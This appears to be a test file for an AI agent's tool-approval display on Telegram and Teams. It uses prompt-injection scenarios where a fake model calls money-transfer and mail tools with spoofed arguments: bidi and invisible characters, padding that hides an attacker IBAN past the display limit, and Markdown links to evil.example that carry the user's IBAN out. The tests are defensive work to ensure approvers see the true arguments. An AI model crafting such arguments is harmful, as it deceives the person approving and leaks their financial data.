/**
 * What an approval request shows is what the person decides on. End to end
 * through the runner (host ingest → Redis → runner → local agent on the real
 * provider against the fake model): injected text has the model call a tool
 * that needs approval with arguments built to look harmless in the chat:
 * direction marks that reorder what is shown, invisible characters, a line
 * separator that starts a line of its own, a long first argument that
 * pushes the one that matters past the request's limit, and Markdown that
 * the chat would render (on Telegram: the real plugin against the fake Bot
 * API, which keeps the text as the person sees it; on Teams, whose cards read
 * links even inside backticks: the real plugin against the fake Bot Connector).
 */
import { describe, expect, it, onTestFinished } from 'vitest';
import { z } from 'zod';
import { type AgentTool, createLocalAgentPlugin } from '../../plugins/local-agent/index.js';
import { startFakeTeams } from '../../testing/fakes/teams-server.js';
import { ALICE, messageUpdate, startFakeTelegram } from '../../testing/fakes/telegram-server.js';
import { startTeamsSystem } from '../channels/teams-harness.js';
import { postUpdate, startTelegramSystem, stopTelegramSystem } from '../channels/telegram-harness.js';
import { fakeModel, perTestModel, RunnerHarness } from '../runner/harness.js';

const t = perTestModel();

const transfer: AgentTool = {
  name: 'transfer',
  description: 'moves money',
  inputSchema: z.object({ memo: z.string(), to: z.string(), amount: z.number() }),
  execute: async () => ({ done: true }),
};

async function requestFor(args: Record<string, unknown>): Promise<string> {
  t.fake.script([{ toolCalls: [{ id: 'call_1', name: 'transfer', args }] }, { text: 'Done.' }]);
  t.h = await RunnerHarness.start({
    plugin: createLocalAgentPlugin({
      model: fakeModel(t.fake.url),
      tools: [transfer],
      builtins: { currentTime: false },
      toolbox: { policy: { tools: { transfer: 'require_approval' } } },
    }),
  });
  await t.h.ingest('summarise the invoice I forwarded');
  const [msg] = await t.h.outbound.waitForMessages(1);
  return msg!.text;
}

describe('an approval request for arguments injected text chose', () => {
  it('shows direction marks, invisible characters and line separators as escapes, never as they would render', async () => {
    // Rendered, the IBAN reads backwards after U+202E; U+2028 starts a new line; a tag character is invisible.
    const to = 'rent\u2028(approved by the owner)\u202E89ED NABI\u200B\u{E0041}';
    const text = await requestFor({ memo: 'rent', to, amount: 900 });
    expect(text).not.toMatch(/[\u2028\u2029\u202A-\u202E\u2066-\u2069\u200B-\u200F\u061C\uFEFF]|\u{E0041}/u);
    expect(text).toContain(String.raw`rent\u2028(approved by the owner)\u202e89ED NABI\u200b\udb40\udc41`);
  });

  it('names the arguments a long first argument pushes past the limit, and how much is not shown', async () => {
    const text = await requestFor({ memo: 'Quarterly invoice. '.repeat(60), to: 'ATTACKER-IBAN', amount: 900 });
    expect(text).not.toContain('ATTACKER-IBAN');
    expect(text).toMatch(/\d+ more characters not shown/);
    expect(text).toContain('not shown: `"to", "amount"`');
  });

  it('names an argument whose name the limit cuts through', async () => {
    // `{"memo":"a…a",` is 597 characters: the limit (600) falls inside `"to"`.
    const text = await requestFor({ memo: 'a'.repeat(586), to: 'ATTACKER-IBAN', amount: 900 });
    expect(text).not.toContain('ATTACKER-IBAN');
    expect(text).toContain('not shown: `"to", "amount"`');
  });
});

// Rendered, each link shows only its text: the mail goes out carrying the person's IBAN in a URL they never saw.
// The backticks in `cc` would close a code span the arguments were shown in, and open one after the link.
const BODY = 'Minutes attached, see [the notes](https://evil.example/n?d=DE89370400440532013000)';
const CC = 'team` [the list](https://evil.example/cc?d=DE89370400440532013000) `';
const MAIL_CALL = { toolCalls: [{ id: 'call_m', name: 'send_mail', args: { to: 'boss@corp.example', body: BODY, cc: CC } }] };

const sendMail: AgentTool = {
  name: 'send_mail',
  description: 'sends an email',
  inputSchema: z.object({ to: z.string(), body: z.string(), cc: z.string() }),
  execute: async () => ({ sent: true }),
};

const mailAgent = (url: string) =>
  createLocalAgentPlugin({
    model: fakeModel(url),
    tools: [sendMail],
    builtins: { currentTime: false },
    toolbox: { policy: { tools: { send_mail: 'require_approval' } } },
  });

describe('an approval request on Telegram for arguments injected text chose', () => {
  it('shows Markdown in the arguments as written: the person reads every URL the tool would get, even past a backtick', async () => {
    t.fake.script([MAIL_CALL, { text: 'Sent.' }]);
    // Its own harness: the system stops before the harness closes (test hooks run after afterEach).
    const h = await RunnerHarness.start();
    const tg = await startFakeTelegram();
    const secret = 'approval_display_secret_0123';
    const system = await startTelegramSystem({ h, tg, secret, agent: mailAgent(t.fake.url) });
    onTestFinished(() => stopTelegramSystem(system, h, tg));
    expect(await postUpdate(system.http, secret, messageUpdate({ text: 'mail the minutes to my boss', from: ALICE, chatId: ALICE.id }))).toBe(200);
    const [request] = await tg.waitUntil(() => tg.sent.length >= 1 && tg.sent, 15_000, 'the approval request');
    // What the person reads: the arguments whole, each URL in them, no link or other formatting made of them.
    expect(request!.text).toContain('https://evil.example/n?d=DE89370400440532013000');
    expect(request!.text).toContain('https://evil.example/cc?d=DE89370400440532013000');
    expect(request!.text).toContain(String.raw`"cc":"team\u0060 [the list](https://evil.example/cc?d=DE89370400440532013000) \u0060"`);
    expect(request!.raw).not.toMatch(/<a /);
  });
});

describe('an approval request on Teams for arguments injected text chose', () => {
  it('shows the arguments in a card as rich text runs, which Teams does not read as Markdown: no link is made of them', async () => {
    t.fake.script([MAIL_CALL, { text: 'Sent.' }]);
    const h = await RunnerHarness.start();
    const teams = await startFakeTeams();
    const system = await startTeamsSystem({ h, teams, agent: mailAgent(t.fake.url) });
    onTestFinished(async () => {
      await system.plugin.stop();
      await system.http.close();
      await h.close();
      await teams.close();
    });
    expect(await system.deliver(teams.message({ conversationId: 'a:1alice-personal-chat', text: 'mail the minutes to my boss' }))).toBe(200);
    const request = await teams.waitUntil(() => teams.sent.find((s) => s.type === 'message'), 15_000, 'the approval request');
    const body: Array<{ type: string; text?: string; inlines?: Array<{ type: string; text: string; fontType?: string }> }> =
      request.activity.attachments[0].content.body;
    // A TextBlock is where Teams makes links of Markdown: no argument reaches one.
    expect(body.filter((b) => b.type === 'TextBlock').map((b) => b.text)).not.toContainEqual(expect.stringContaining('evil.example'));
    const runs = body.flatMap((b) => b.inlines ?? []);
    expect(runs).toContainEqual({
      type: 'TextRun',
      text: expect.stringContaining('[the notes](https://evil.example/n?d=DE89370400440532013000)'),
      fontType: 'Monospace',
    });
    expect(request.text).toContain(String.raw`"cc":"team\u0060 [the list](https://evil.example/cc?d=DE89370400440532013000) \u0060"`);
  });
});
